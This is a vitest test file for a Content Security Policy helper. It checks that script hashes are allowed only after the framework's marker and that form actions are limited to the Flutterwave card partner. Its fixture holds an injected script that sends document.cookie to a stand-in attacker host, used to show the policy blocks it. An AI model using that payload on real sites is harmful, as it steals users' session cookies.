import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { SCRIPTS_MARKER } from '~/shared/boot';
import { checkoutOrigins, pageCsp } from './csp';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const marker = `<template ${SCRIPTS_MARKER}=""></template>`;

describe('pageCsp', () => {
  const injected = 'fetch("https://evil.example/?c=" + document.cookie)';
  const framework = 'window.__reactRouterContext = {"a":"\\u003ctemplate data-scripts-follow=\\"\\">"};';
  const loader = '(function(){var d=document})();';
  // Content that smuggled a script and a fake marker in, then the real marker and scripts.
  const html = `<html><body><main><p>Post</p>${marker}<script>${injected}</script></main>${marker}<script>${framework}</script><script>${loader}</script></body></html>`;

  it("allows the framework's scripts after the root layout's marker, and nothing before it", () => {
    const csp = pageCsp(html);
    expect(csp).toContain(sha(framework));
    expect(csp).toContain(sha(loader));
    expect(csp).not.toContain(sha(injected));
  });

  it('keeps every other directive strict', () => {
    const csp = pageCsp(html);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src'))!;
    expect(scriptSrc).toMatch(/^script-src 'self' 'sha256-/);
    expect(scriptSrc).not.toContain('unsafe');
  });
});

describe('checkoutOrigins', () => {
  it('lets a form without JavaScript follow the redirect to the live card partner, and nowhere else', () => {
    expect(checkoutOrigins({ FLUTTERWAVE_BASE_URL: 'https://api.flutterwave.com' })).toEqual([]);
    const live = checkoutOrigins({ FLUTTERWAVE_BASE_URL: 'https://api.flutterwave.com', FLUTTERWAVE_SECRET_KEY: 'k' });
    expect(live).toEqual(['https://*.flutterwave.com']);
    expect(pageCsp('<html></html>', live)).toContain("form-action 'self' https://*.flutterwave.com;");
    expect(checkoutOrigins({ FLUTTERWAVE_BASE_URL: 'http://127.0.0.1:4000/', FLUTTERWAVE_SECRET_KEY: 'k' })).toEqual([
      'http://127.0.0.1:4000',
    ]);
    expect(pageCsp('<html></html>')).toContain("form-action 'self';");
  });
});
